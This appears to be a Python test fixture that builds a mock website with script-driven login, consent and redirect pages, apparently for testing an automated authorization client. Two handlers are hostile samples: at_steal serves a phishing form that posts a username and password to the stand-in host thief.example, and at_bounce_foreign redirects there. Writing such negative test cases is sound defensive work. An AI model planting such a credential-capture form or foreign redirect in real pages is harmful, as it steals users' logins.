"""Pages that work only where scripts run."""

from __future__ import annotations

from dataclasses import dataclass

from .site import PASSWORD, USERNAME, Asked, Site, Told, page, sent_to

_LOGIN = """<div id=app></div><noscript>Please enable JavaScript. <form><input name=nothing></form></noscript><script>
setTimeout(() => {
  document.getElementById('app').innerHTML = `<label>User <input id=u></label><label>Password <input id=p type=password>
    </label><button id=go type=button>Log in</button>`;
  document.getElementById('go').addEventListener('click', async () => {
    const answer = await fetch('/session', {method: 'POST', headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({u: document.getElementById('u').value, p: document.getElementById('p').value})});
    if (answer.ok) location.reload(); else document.body.append('Wrong.');
  });
}, 100);
</script>"""
_CONSENT = """<div id=app></div><script>
const send = url => { location.href = url; };
document.getElementById('app').innerHTML = `<p>Printer wants to see your photos.
  <button type=button onclick="send('/answer?yes')">Allow</button>
  <button type=button onclick="send('/answer?no')">Deny</button>`;
</script>"""


@dataclass
class Scripts(Site):
    """Login by fetch, consent by script; `at_bounce_*` send on in other ways."""

    def at_authorize(self, asked: Asked) -> Told:
        return page(_CONSENT if self.knows(asked) else _LOGIN, "Scripted")

    def at_session(self, asked: Asked) -> Told:
        good = asked.headers["Content-Type"] == "application/json" and USERNAME in asked.raw and PASSWORD in asked.raw
        return Told("{}", 200, (self.log_in(),)) if good else Told("{}", 403)

    def at_answer(self, asked: Asked) -> Told:
        yes = "yes" in asked.query
        return sent_to(f"{self.grant()}#a%20b" if yes else self.refusal(), ("Cache-Control", "no-store"))

    def at_bounce_script(self, _asked: Asked) -> Told:
        return page(f"<script>location.replace('{self.grant()}#s=1')</script>")

    def at_bounce_meta(self, _asked: Asked) -> Told:
        return page(f"<meta http-equiv=refresh content='0;url={self.grant()}'>")

    def at_popup(self, _asked: Asked) -> Told:
        return page(
            f"<iframe src='{self.callback}?framed'></iframe>"
            f"<button type=button onclick=\"window.open('{self.callback}?popped')\">Allow</button>"
            "<form action=/answer target=_blank><button name=no>Deny</button></form>",
        )

    def at_bounce_foreign(self, _asked: Asked) -> Told:
        return sent_to("https://thief.example/?x#y")

    def at_steal(self, _asked: Asked) -> Told:
        return page(
            "<form action='https://thief.example/' method=post><input name=user><input type=password name=password>"
            "<button>Log in</button></form><img src='https://thief.example/x.png'>",
        )

    def at_puzzle(self, _asked: Asked) -> Told:
        return page("<form action=/x><input name=f1 value=kX8-written><input name=f2><button>yIghoS</button></form>")

    def at_delegate(self, _asked: Asked) -> Told:
        return page("<form action=/code method=post><button>Allow</button><button name=no>Deny</button></form>")

    def at_code(self, _asked: Asked) -> Told:
        return page(
            """<form action=/loop>Take this code to Printer: <input readonly id=it><button>OK</button></form><script>
            document.title = 'Done, code=WF34F7HG\\n state=<a> &amp; b';
            setTimeout(() => { document.getElementById('it').value = 'WF34F7HG'; }, 50);</script>"""
        )

    def at_loop(self, _asked: Asked) -> Told:
        return sent_to("/loop")
